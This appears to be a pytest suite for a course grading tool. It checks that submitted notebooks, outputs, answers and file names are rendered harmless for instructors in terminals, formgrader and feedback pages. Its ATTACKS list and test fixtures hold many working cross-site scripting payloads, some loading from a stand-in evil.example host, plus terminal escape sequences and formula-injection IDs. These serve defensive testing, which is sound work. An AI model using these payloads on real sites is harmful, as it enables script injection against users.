"""A submission is read by its instructor in a terminal, in formgrader and in feedback, and runs in none of them."""

import base64
import io
import json
import re
import shutil
import subprocess
import urllib.error
import urllib.request
from collections import Counter

import nbformat
import pytest
import served
from browsing import assert_accessible, assert_fits, browser, say_what_was_not_looked_at, set_screen
from bs4 import BeautifulSoup
from conftest import kit
from hypothesis import given, settings
from hypothesis import strategies as st
from nbconvert.filters import ansi2html, markdown2html
from PIL import Image

from grading.autograde import autograde
from grading.books.course import Course
from grading.desk import feedback, pages
from grading.desk import outputs as cleaning
from grading.desk.html import clean_html, with_code
from grading.desk.markdown import render
from grading.desk.text import clean_text
from grading.intake import collect as collecting
from grading.release import assignment as assignments


def picture(kind="png", size=(2, 3)):
    file = io.BytesIO()
    Image.new("RGB", size).save(file, kind)
    return base64.b64encode(file.getvalue()).decode()


PNG, JPEG = picture(), picture("jpeg")
RUN = "document.title='PWNED'"                   # what every attack here tries to do
ATTACKS = [
    f"<script>{RUN}</script>", f"<SCRIPT src=//evil.example/x.js></SCRIPT>{RUN}", f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}><circle/></svg>", f"<svg><script>{RUN}</script></svg>", f'<body onload="{RUN}">',
    f"<a href='javascript:{RUN}'>a</a>", f"<a href='java&#x0A;script:{RUN}'>a</a>",
    f"<a href='files/javascript:{RUN}'>a</a>", f"[a](javascript:{RUN})", f"[a](files/javascript:{RUN})",
    f"![a](x.png\"onerror=\"{RUN})", f"[a]: <javascript:{RUN}>\n\n[a]", f"<javascript:{RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", "<iframe src=/formgrader></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>", "<embed src=x>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=/logout><button class='full-credit'>Full credit</button></form>", "<style>*{display:none}</style>",
    "<div style='position:fixed;inset:0;background:url(//evil.example)'>over everything</div>",
    "<img src='/formgrader?path=submitted'>", "![seen](https://evil.example/seen.png)",
    "<img src=//evil.example/x.png>", "<img srcset='//evil.example/x.png 1x'>", "<video src=x onloadstart=1>",
    f"<details open ontoggle={RUN}>x</details>",
    "<div id='knn-structure-answer' class='nbgrader_cell'>mine</div>", "<input class='score' value=100>",
    f"<div data-toggle=tooltip data-html=true title='<img src=x onerror={RUN}>' class=name-shown>x</div>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style>",
    f"<template><img onerror={RUN}></template>", f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"```mermaid\n<img src=x onerror={RUN}>\n```", f"<!--><img src=x onerror={RUN}>",
    f"```html\n</pre><img src=x onerror={RUN}>\n```", f"# </h1><img src=x onerror={RUN}>", "</div>" * 40, "<div>" * 40,
    f"<title>x</title><textarea></textarea><img src=x onerror={RUN}>", "![gone](attachment:gone.png)",
    f"|a|\n|-|\n|<img src=x onerror={RUN}>|", f"<xmp><img src=x onerror={RUN}></xmp>",
    "<script type='text/x-mathjax-config'>MathJax.Hub.Config({})</script>",
]
_FORBIDDEN = {
    "script", "style", "iframe", "frame", "object", "embed", "applet", "form", "base", "link", "meta", "svg",
    "input", "button", "textarea", "select", "video", "audio", "source", "template", "noscript", "title",
    "body", "html", "head",
}


_FORMULA = {f"m{name}" for name in ("ath", "row", "i", "n", "o", "text", "space", "frac", "sqrt", "root", "style",
                                    "sub", "sup", "subsup", "under", "over", "underover", "table", "tr", "td")}
_OF_FORMULA = {"display", "stretchy", "fence", "form", "accent", "style", "width", "displaystyle", "scriptlevel",
               "mathcolor", "linethickness", "movablelimits"}


def assert_formulas_are_plain(page):
    """MathML holds nothing but what formulas are drawn with: no HTML, no addresses, no actions."""
    for element in page.select("math, math *"):
        assert element.name in _FORMULA and element.attrs.keys() <= _OF_FORMULA, element
        assert element.get("style", "text-align: left") in {f"text-align: {one}" for one in ("left", "center", "right")}


def assert_harmless(html):
    """No element, attribute or address in this fragment that runs, loads from elsewhere, or names something."""
    assert_formulas_are_plain(page := BeautifulSoup(html, "html.parser"))
    for element in page.find_all(True):
        assert element.name not in _FORBIDDEN, element
        for name, value in element.attrs.items():
            assert not name.startswith(("on", "data-")) and name not in ("id", "name", "srcset", "srcdoc"), element
            if name == "src":
                assert re.match(r"data:image/(png|jpeg);base64,|\w[\w/-]*\.\w+$", value), element
            if name == "href":
                assert re.match(r"https?://|mailto:|\w[\w/-]*\.\w+$", value), element
            if name == "style":
                assert "position" not in value and "url" not in value, element


# --- outputs ----------------------------------------------------------------------------------------------------

def shown(data, **more):
    return {"output_type": "display_data", "data": data, "metadata": {}} | more


def printed(text, name="stdout"):
    return {"output_type": "stream", "name": name, "text": text}


plain_data = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20) | st.sampled_from(ATTACKS)
    | st.sampled_from([PNG, JPEG, "\x1b[38m", "\x1b]0;t\x07", "\ud800", "stdout"]),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4), max_leaves=8)
bundles = st.dictionaries(
    st.sampled_from([*cleaning.KINDS, "image/svg+xml", "application/javascript", "x"]) | st.text(),
    plain_data, max_size=5)
some_output = st.fixed_dictionaries({}, optional={
    "output_type": st.sampled_from(["stream", "error", "display_data", "execute_result", "pyout"]) | plain_data,
    "name": st.sampled_from(["stdout", "stderr", "stdin"]) | plain_data,
    "text": plain_data, "data": bundles | plain_data,
    "metadata": plain_data | st.fixed_dictionaries({"image/png": st.fixed_dictionaries({"width": plain_data})}),
    "execution_count": plain_data, "ename": plain_data, "evalue": plain_data,
    "traceback": plain_data | st.lists(st.text()), "transient": plain_data})


@settings(deadline=None, max_examples=300)
@given(plain_data | st.lists(some_output | plain_data, max_size=6))
def test_whatever_comes_out_of_a_cell_becomes_a_valid_notebook_and_is_harmless(outputs):
    cleaned = cleaning.clean_outputs(outputs)
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(outputs=nbformat.from_dict(cleaned))])
    nbformat.validate(notebook)
    nbformat.writes(notebook).encode()
    assert cleaning.clean_outputs(cleaned) == cleaned
    for output in cleaned:
        assert set(output.get("data", {})) <= {"text/plain", "text/latex", "text/html", "image/png", "image/jpeg"}
        assert_harmless(output.get("data", {}).get("text/html", ""))
        words = output.get("data", {}).get("text/plain", "")
        for text in (output.get("text", ""), *output.get("traceback", []), words):
            ansi2html(text)
            assert not re.search(r"[\x00-\x08\x0b-\x1a\x1c-\x1f\x7f-\x9f]|\x1b(?!\[[\d;]+m)", text)


def test_a_formula_in_markdown_that_a_cell_puts_out_is_kept_as_it_was_typed():
    cleaned = cleaning.clean_outputs([shown({"text/markdown": "so $a < b$ **holds**"})])
    assert "so $a &lt; b$ <strong>holds</strong>" in cleaned[0]["data"]["text/html"]
    assert cleaning.clean_outputs(cleaned) == cleaned


def test_what_an_honest_cell_puts_out_stays_as_it_is():
    honest = [
        printed("loss 2.30\n\x1b[31mred\x1b[0m\tçığ 数\n"), printed("a warning\n", "stderr"),
        shown({"image/png": PNG, "text/plain": "<Figure size 640x480 with 1 Axes>"},
              metadata={"image/png": {"width": 640, "height": 480}}),
        shown({"image/jpeg": JPEG}), shown({"text/latex": "$x < y$", "text/plain": "x < y"}),
        {"output_type": "execute_result", "data": {"text/plain": "array([1, 2])"}, "metadata": {},
         "execution_count": 7},
        {"output_type": "error", "ename": "ValueError", "evalue": "shapes (2,3) and (4,)\nno",
         "traceback": ["\x1b[0;31m---\x1b[39m", "\x1b[38;5;28;01mValueError\x1b[39;00m: no"]}]
    assert cleaning.clean_outputs(honest) == honest


def test_a_table_of_pandas_stays_a_table():
    table = ('<div>\n<style scoped>\n.dataframe th { vertical-align: top; }\n</style>\n<table border="1" '
             'class="dataframe">\n<thead><tr style="text-align: right;"><th></th><th>acc</th></tr></thead>\n'
             '<tbody><tr><th>0</th><td>0.5</td></tr></tbody></table>\n</div>')
    cleaned = cleaning.clean_outputs([shown({"text/html": table, "text/plain": "  acc\n0 0.5"})])[0]["data"]
    found = BeautifulSoup(cleaned["text/html"], "html.parser")
    assert found.table["class"] == ["dataframe"] and found.thead.tr["style"] == "text-align:right"
    assert [cell.text for cell in found.find_all(["th", "td"])] == ["", "acc", "0", "0.5"]
    assert "vertical-align" not in found.text and cleaned["text/plain"] == "  acc\n0 0.5"


def test_markdown_that_a_cell_shows_is_kept_as_html():
    both = shown({"text/markdown": "**bold** <script>x</script>", "text/plain": "<M>"})
    data = cleaning.clean_outputs([both])[0]["data"]
    assert set(data) == {"text/html", "text/plain"} and data["text/html"].strip() == "<p><strong>bold</strong> </p>"


@pytest.mark.parametrize("kind", ["application/javascript", "image/svg+xml", "application/vnd.jupyter.widget-view+json",
                                  "application/pdf", "text/vnd.mermaid", "application/vnd.plotly.v1+json", "<b>"])
def test_what_could_run_is_left_out_and_said_so(kind):
    active = "<svg onload=alert(1)>" if "svg" in kind else {"model_id": "x"}
    assert cleaning.clean_outputs([shown({kind: active, "text/plain": "drawn"})])[0]["data"] == {"text/plain": "drawn"}
    assert cleaning.clean_outputs([shown({kind: active})])[0]["data"] == {"text/plain": f"[{kind}: not shown]"}


@pytest.mark.parametrize("base64_text", [
    "not base64", "AAAA", PNG + "\" onerror=\"x", PNG[:-2] + "=A", JPEG, base64.b64encode(b"<svg onload=1>").decode(),
    base64.b64encode(base64.b64decode(PNG)[:16] + b"\xff" * 8 + base64.b64decode(PNG)[24:]).decode()])
def test_a_picture_that_is_none_or_too_large_to_unpack_is_left_out(base64_text):
    cleaned = cleaning.clean_outputs([shown({"image/png": base64_text, "text/plain": "p"})])
    assert cleaned[0]["data"] == {"text/plain": "p"}


def test_a_picture_keeps_only_a_size_in_whole_numbers():
    told = {"width": "1 onerror=alert(1)", "height": 3, "alt": "x"}
    cleaned = cleaning.clean_outputs([shown({"image/png": PNG}, metadata={"image/png": told, "isolated": True})])
    assert cleaned[0]["metadata"] == {"image/png": {"height": 3}}


def test_colors_that_break_or_stall_nbconvert_are_taken_out():
    with pytest.raises(IndexError):
        ansi2html("\x1b[38m")                                    # nbconvert's fault: if it is gone, so may the rule be
    assert cleaning.clean_outputs([printed("\x1b[38ma\x1b[48mb\x1b[038mc")])[0]["text"] == "abc"
    assert "\x1b" not in cleaning.clean_outputs([printed("\x1b[31ma" * 100_000)])[0]["text"]


def test_output_is_cut_at_its_limits_with_a_line_that_says_so():
    much = [printed("a" * 700_000), printed("b" * 700_000, "stderr"), printed("c")]
    cleaned = cleaning.clean_outputs(much)
    assert [len(output["text"]) for output in cleaned] == [700_000, 300_000 + len(cleaning.CUT)]
    assert cleaned[-1]["text"].endswith("output cut here ...\n")
    assert len(cleaning.clean_outputs([printed("a"), shown({"text/plain": "b"})] * 3_000)) == cleaning.OUTPUTS + 1
    large = base64.b64encode(base64.b64decode(PNG) + b"\0" * 2_250_000).decode()
    kept = cleaning.clean_outputs([shown({"image/png": large, "text/plain": "p"})] * 3)
    assert [set(output["data"]) for output in kept] == [{"image/png", "text/plain"}, {"text/plain"}, {"text/plain"}]
    endless = nbformat.v4.new_notebook(cells=[
        nbformat.v4.new_code_cell(outputs=[nbformat.from_dict(printed("a" * 1_000_000))]) for _ in range(52)])
    cleaning.clean_notebook(endless)
    assert endless.cells[49].outputs[0].text == "a" * 1_000_000 and "left out" in endless.cells[51].outputs[0].text


def test_a_progress_bar_is_its_last_state():
    bar = [printed(f"\r{percent}%", "stderr") for percent in range(101)]
    assert cleaning.clean_outputs([*bar, printed("\n", "stderr")]) == [printed("100%\n", "stderr")]


# --- text -------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("said", "read"), [
    ("plain", "plain"), ("a\nkit: done\r\n  b", "a kit: done b"), ("\x1b[31mred\x1b[0m", "red"),
    ("\x1b]0;title\x07x", "x"), ("\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\", "link"), ("\x1b[2J\x1b[Hx", "x"),
    ("\x9b31mx", "x"), ("a\x08b\x00c\x7f", "abc"), ("\u202egnp.exe", "gnp.exe"), ("a\u2028b\x85c", "a bc"),
    ("\ud800", "\ufffd"), ("数学 é", "数学 é"), (None, ""), ("x" * 3_000, "x" * 1_996 + " ...")])
def test_text_for_a_terminal_is_one_line_without_escapes(said, read):
    assert clean_text(said) == read


@given(st.text() | st.text("\x1b[]0;m\x07\x9b\\ 38\x90a", max_size=30))
def test_no_text_reaches_a_terminal_with_an_escape_in_it(text):
    cleaned = clean_text(text)
    assert cleaned.encode() is not None and not re.search(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", cleaned)


@pytest.mark.parametrize("name", ["=1+1", "+1", "-1", "@sum", "<b>", "a<img src=x>", "a\x1b[2J", "a'b", 'a"b', "a,b",
                                  "ä"])
def test_no_student_id_can_hold_a_formula_or_html_or_an_escape(tmp_path, name):
    assignment = assignments.load("assignment1")
    inbox = tmp_path / "inbox"
    (inbox / name).mkdir(parents=True)
    assert collecting.collect(assignment, Course(tmp_path / "course"), [inbox])[0].state == "refused"


def test_the_kit_prints_no_escape_of_a_file_name(tmp_path):
    assignment = assignments.load("assignment1")
    (tmp_path / "inbox" / "a\x1b]0;owned\x07\u202e").mkdir(parents=True)
    done = kit("collect", assignment.name, tmp_path / "inbox", course=tmp_path / "course")
    assert done.returncode == 1 and "refused" in done.stderr
    assert not re.search("[\x1b\x07\u202e]", done.stdout + done.stderr)


# --- written answers --------------------------------------------------------------------------------------------

HONEST = [
    "The bright row means a < b && c > d; 3<4 and x<y.",
    "Math: $a<b$, $\\sum_{i<j} x_i \\& y$ and\n\n$$\n\\begin{pmatrix}a & b \\\\ c & d\\end{pmatrix} < 0\n$$",
    "\\begin{align}\na &= b \\\\ c &< d\n\\end{align}",
    "Code `x < y && z` and\n\n```python\nif a < b:  # <b>\n    x = '&lt;'\n```\n\n    indented < code\n",
    "one<br>two <sub>i</sub> <b>bold</b> <!-- a comment --> <font color='red'>red</font>",
    "| a | b |\n|---|:-:|\n| $x<1$ | `<` |",
    "1. first\n2. second\n   - inner\n\n> quoted\n\n# Heading\n\nterm\n: meaning",
    "~~struck~~ [link](https://cs231n.github.io/?a=1&b=2)",
    "<details><summary>More</summary>\n\nhidden **text**\n\n</details>",
    "\\$5 and $5; *a* _b_ **c** &amp; &lt; 5 °",
    "<table><tr><th>k</th><td>5</td></tr></table>",
    "See https://cs231n.github.io and <https://numpy.org>.",
    "Ünïcödé, 数学, “quotes” – and 🙂",
]


@pytest.mark.parametrize("answer", HONEST)
def test_an_honest_answer_reads_as_it_does_without_us(answer):
    def read(html):
        found = BeautifulSoup(html.replace("¶", ""), "html.parser")
        comments = found.find_all(string=lambda text: type(text).__name__ == "Comment")
        for comment in comments:
            comment.extract()
        for element in found.select("a.anchor-link, math"):
            element.extract()
        text = re.sub(r"\$\$?[^$]+\$\$?|\\begin\{align\}.*\\end\{align\}", "", found.get_text(), flags=re.DOTALL)
        return text.split(), [element.name for element in found.find_all(True) if element.name != "tbody"]

    assert read(render(answer)) == read(markdown2html(answer))


def test_less_than_is_no_tag_two_prices_are_no_formula_and_an_unclosed_one_swallows_no_words():
    shown = BeautifulSoup(render("if a<b then b>c, vector<int> <b>x</b>; from $5 on, or $7 more\n\n"
                                 "\\begin{align} a\n\nA word.\n\n\\begin{align} b \\end{align}\n\n$$\n\nx_1\n\n$$"),
                          "html.parser")
    for typed in ("a<b then b>c", "vector<int>", "$5 on, or $7", "A word."):
        assert typed in shown.text, typed
    assert shown.b.text == "x" and len(shown.find_all("math")) == 1


@pytest.mark.parametrize("how", ["![plot](attachment:my%20plot.png)", "![plot](<attachment:my plot.png>)",
                                 "<img src='attachment:my plot.png' width=300>"])
def test_a_pasted_picture_is_shown(how):
    shown = BeautifulSoup(render(how, {"my plot.png": {"image/png": PNG}}), "html.parser").img
    assert shown["src"] == f"data:image/png;base64,{PNG}"


def test_a_pasted_picture_is_a_picture_and_one_from_elsewhere_is_a_link():
    script = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()
    for bundle in ({"text/html": script}, {"image/svg+xml": script}, {"image/png": script}, {"image/png": 3}, "x", {}):
        rendered = render("![p](attachment:p) ![q](attachment:q)", {"p": bundle})
        assert "not in the notebook" in rendered and script not in rendered
    link = BeautifulSoup(render("![my plot](https://host.example/p.png?a=1&b=2)"), "html.parser").a
    assert link["href"] == "https://host.example/p.png?a=1&b=2" and "my plot" in link.text


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_an_answer_or_an_output_is_active(attack):
    assert_harmless(render(attack))
    assert_harmless(clean_html(attack))
    assert_harmless(pages.clean_html({}, attack))


@settings(deadline=None, max_examples=300)
@given(st.lists(st.sampled_from([*ATTACKS, *HONEST, "<", ">", '"', "'", "`", "\n\n", "$", "<p", "<table>", "<td>",
                                 "<a ", "href=", "src=", "-->", "</b>", "\0", "&#", "javascript:", "<select>"]),
                max_size=8))
def test_no_mixture_of_attacks_is_active(parts):
    text = "".join(parts)
    assert_harmless(render(text))
    assert_harmless(clean_html(text))


def test_an_answer_too_long_or_too_deep_to_be_rendered_is_shown_as_it_was_typed():
    for text in ("<b>x" * 10_000, "\\\\[" * 100_000):
        rendered = render(text)
        assert rendered.startswith("<pre>") and "<b>" not in rendered
    assert_harmless(render("> " * 4_000 + "x"))
    assert len(render("a" * 10_000_000)) < cleaning.RICH


def test_a_long_answer_is_rendered_piece_by_piece_and_a_picture_pasted_as_data_does_not_count():
    long = "\n\n".join(f"Paragraph {number} is *long* enough: {'word ' * 40}" for number in range(200))
    fenced = "```python\n" + "\n\n".join(f"x = {number}" for number in range(300)) + "\n```"
    text = f"{long}\n\n{fenced}\n\n![plot](data:image/png;base64,{PNG})\n\n" + "b" * 11_000
    found = BeautifulSoup(pages.markdown2html({"cell": {}, "resources": {}}, text), "html.parser")
    assert len(found.find_all("em")) == 200 and found.img["src"].startswith("data:image/png")
    assert "x = 299" in found.find_all("pre")[0].text and found.find_all("pre")[-1].text.strip() == "b" * 11_000


# --- real pages -------------------------------------------------------------------------------------------------

OWN = f'''from IPython.display import display, HTML, Javascript, SVG, Markdown, Latex, Image
import sys
for attack in {ATTACKS!r}:
    display(HTML(attack)), display(Markdown(attack)), display(Latex(attack))
    print(attack), print(attack, file=sys.stderr)
display(Javascript({RUN!r}))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>"))
display({{"text/html": "<script>{RUN}</script>"}}, raw=True, metadata={{"text/html": {{"isolated": True}}}})
display({{"image/png": "{PNG}"}}, raw=True, metadata={{"image/png": {{"width": "1 onload={RUN}"}}}})
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "x"}}}}, raw=True)
print("\\x1b[38m\\x1b]0;PWNED\\x07")
class Name(Exception): pass
Name.__name__ = "<script>{RUN}</script>"
'''
RAISES = f'raise ValueError("<script>{RUN}</script><img src=x onerror={RUN}>\\x1b]0;PWNED\\x07")'


def attacked(work):
    """Turn a perfect submission into an attack on whoever reads it."""
    path = work / "knn.ipynb"
    notebook = json.loads(path.read_text(encoding="utf-8"))
    for cell in notebook["cells"]:
        if cell["id"] == "knn-structure-answer":
            cell["source"] = "\n\n".join(ATTACKS)
            cell["attachments"] = {"p.png": {"text/html": base64.b64encode(RUN.encode()).decode()}}
    own = [{"cell_type": "markdown", "source": attack, "metadata": {}, "id": f"own-{number}"}
           for number, attack in enumerate(ATTACKS)]
    own.append({"cell_type": "code", "source": OWN, "metadata": {}, "id": "own-code", "outputs": [],
                "execution_count": None})
    own.append({"cell_type": "code", "source": f"# {ATTACKS}\nraise Name({ATTACKS[2]!r})", "metadata": {},
                "id": "own-error", "outputs": [], "execution_count": None})
    own += [{"cell_type": "raw", "source": attack, "metadata": {"raw_mimetype": "text/html"}, "id": f"raw-{number}"}
            for number, attack in enumerate(ATTACKS)]
    notebook["cells"] += own
    path.write_text(json.dumps(notebook))
    module = work / "cs231n" / "classifiers" / "k_nearest_neighbor.py"
    source = module.read_text(encoding="utf-8")
    start = source.index("def compute_distances_two_loops")
    end = source.index('"""', source.index('"""', start) + 3) + 3
    module.write_text(source[:end] + f"\n        {RAISES}\n" + source[end:], encoding="utf-8")


@pytest.fixture(scope="module")
def course(released, tmp_path_factory):
    """A course where ann handed in perfect work, and bob the same turned into an attack; graded, with feedback."""
    from grading.sample import sample_class

    assignment, before = released
    course = Course(tmp_path_factory.mktemp("desk") / "course")
    shutil.copytree(before.root, course.root)
    for student in ("ann", "bob"):
        sample_class.complete(assignment, course, course.root / "inbox" / student)
    attacked(course.root / "inbox" / "bob")
    drawn = course.root / "inbox" / "ann" / "knn.ipynb"
    notebook = nbformat.read(drawn, as_version=4)
    drawing = "figure = plt.figure()\nplt.plot([1, 2])\ndisplay(figure)\nplt.close()"
    notebook.cells.append(nbformat.v4.new_code_cell(drawing))
    nbformat.write(notebook, drawn)
    (course.root / "inbox" / "bob" / "nbgrader_config.py").write_text("open('PWNED', 'w')")
    collecting.collect(assignment, course, [course.root / "inbox"])
    assert [result.fault for result in autograde.autograde(assignment, course, jobs=2)] == ["", ""]
    feedback.feedback(assignment, course)
    return course


@pytest.fixture(scope="module")
def formgrader(course):
    """{student: (address, page)} of knn in formgrader, from a Jupyter server started in the course folder."""
    with served.jupyter(course.root) as address:
        address = f"{address}/formgrader"
        submitted = json.loads(served.get(f"{address}/api/submitted_notebooks/assignment1/knn"))
        yield {one["student"]: (f"{address}/submissions/{one['id']}/",
                                served.get(f"{address}/submissions/{one['id']}/").replace(one["id"], "ID").replace(
                                    one["student"], "STUDENT")) for one in submitted}


def assert_no_more_than(attack, honest):
    """The page of the attack has no active part that the page of honest work has not."""
    attack, honest = BeautifulSoup(attack, "html.parser"), BeautifulSoup(honest, "html.parser")
    assert_formulas_are_plain(attack)

    def parts(page):
        for element in page.find_all(True):
            if element.name in _FORBIDDEN:
                yield element.name if element.name in ("html", "head", "body") else str(element)
            for name, value in element.attrs.items():
                if name.startswith(("on", "data-")):
                    yield f"{name}={value}"
                if name in ("id", "name") and not re.fullmatch(r"cell-id=own-[\w-]+", value):
                    yield f"{name}={value}"
                url = "".join(str(value).split()).lower() if name in ("src", "href", "action", "data") else ""
                if url and not re.match(r"https?://|data:image/(png|jpeg);base64,[\w+/=]+$", url):
                    yield f"{name}={url}"

    more = Counter(parts(attack)) - Counter(parts(honest))
    assert not more, list(more)[:5]
    text = attack.get_text()
    assert text.count("onerror") > 20, "the attacks are on this page, as text"


def test_the_formgrader_page_of_an_attack_has_nothing_active_of_its_own(formgrader):
    assert_no_more_than(formgrader["bob"][1], formgrader["ann"][1])


def test_no_picture_in_an_answer_makes_formgrader_run_a_config_that_was_handed_in(formgrader, course):
    address = formgrader["bob"][0].partition("/submissions/")[0]
    for folder in ("inbox/bob", "inbox", str(course.root / "submitted" / "bob")):
        with pytest.raises(urllib.error.HTTPError, match="403"):
            urllib.request.urlopen(f"{address}?path={folder}", timeout=60)
    with urllib.request.urlopen(f"{address}?path={course.root}", timeout=60) as answer:
        assert answer.status == 200
    assert not list(course.root.rglob("PWNED"))


def test_the_feedback_page_of_an_attack_has_nothing_active_of_its_own(course):
    bob, ann = ((course.feedback(student, "assignment1") / "knn.html").read_text(encoding="utf-8")
                for student in ("bob", "ann"))
    assert_no_more_than(bob, ann)


def test_the_formgrader_shows_the_honest_answer_and_picture_and_both_score_fields(formgrader):
    page = BeautifulSoup(formgrader["ann"][1], "html.parser")
    assert len(page.select("input.score#knn-structure-answer")) == 1
    assert len(page.select(".nbgrader_cell textarea.comment")) > 0
    assert page.select("img[src^='data:image/png;base64,']")
    assert [element["id"] for element in BeautifulSoup(formgrader["bob"][1], "html.parser").select("input.score")] == \
        [element["id"] for element in page.select("input.score")]


def test_what_a_hidden_test_says_of_an_attack_is_text_on_the_feedback_page(course):
    html = (course.feedback("bob", "assignment1") / "knn.html").read_text(encoding="utf-8")
    page = BeautifulSoup(html, "html.parser")
    said = [check.select_one("pre").text for check in page.select(".checks > .error") if check.select("pre")]
    assert any(f"<script>{RUN}</script><img src=x onerror={RUN}>" in text for text in said)
    assert not re.search("[\x1b\x07]", page.get_text())


def test_the_graded_notebook_itself_holds_no_active_output_but_every_word_of_the_answer(course):
    notebook = nbformat.read(course.autograded("bob", "assignment1") / "knn.ipynb", as_version=4)
    for cell in notebook.cells:
        if cell.cell_type == "code":
            assert cleaning.clean_outputs(cell.outputs) == cell.outputs
    answer = next(cell for cell in notebook.cells if cell.id == "knn-structure-answer")
    assert answer.source == "\n\n".join(ATTACKS)


@pytest.mark.skipif(not shutil.which("chromium"), reason="needs the program chromium")
def test_a_browser_runs_nothing_of_an_attack(formgrader, course, tmp_path):
    feedback_page = (course.feedback("bob", "assignment1") / "knn.html").as_uri()
    control = tmp_path / "control.html"
    control.write_text(f"<title>knn</title><script>{RUN}</script>")
    titles = {}
    for address in (formgrader["bob"][0], feedback_page, control.as_uri()):
        done = subprocess.run(
            ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
             "--disable-background-networking", "--disable-component-update", "--disable-sync", "--dump-dom",
             f"--user-data-dir={tmp_path / 'profile'}", "--virtual-time-budget=5000", address],
            capture_output=True, text=True, timeout=120)
        titles[address] = BeautifulSoup(done.stdout, "html.parser").title.text
    assert titles == {formgrader["bob"][0]: "knn", feedback_page: "knn: feedback on assignment1",
                      control.as_uri(): "PWNED"}


@pytest.mark.skipif(not (shutil.which("chromium") and shutil.which("chromedriver")),
                    reason="needs the programs chromium and chromedriver")
def test_feedback_is_accessible_fits_every_width_in_light_and_dark_and_asks_nobody_for_anything(course, tmp_path):
    with browser(tmp_path / "profile", "performance") as driver:
        for student, page in (("ann", "index"), ("ann", "knn"), ("bob", "index"), ("bob", "knn")):
            for width, scheme in ((360, "dark"), (1280, "light")):
                set_screen(driver, width, scheme)
                driver.get((course.feedback(student, "assignment1") / f"{page}.html").as_uri())
                driver.execute_script("for (const one of document.querySelectorAll('details')) one.open = true")
                assert_fits(driver, width)
                assert_accessible(driver)
        messages = [json.loads(one["message"])["message"] for one in driver.get_log("performance")]
    asked = {one["params"]["request"]["url"] for one in messages if one["method"] == "Network.requestWillBeSent"}
    assert not [url for url in asked if not url.startswith(("data:", "chrome", "about:"))
                and not re.match(r"file:.*/feedback/(ann|bob)/assignment1/(index|knn)\.html$", url)]
    say_what_was_not_looked_at()


@pytest.mark.parametrize(("sentence", "shown"), [
    ("`W *= 2` <b>doubles</b> it", "<code>W *= 2</code> &lt;b&gt;doubles&lt;/b&gt; it"),
    ("`<script>` and `a`", "<code>&lt;script&gt;</code> and <code>a</code>"),
    ("one ` alone", "one ` alone"),
])
def test_what_stands_in_backticks_is_code_on_a_page_and_nothing_else_is_html(sentence, shown):
    assert with_code(sentence) == shown
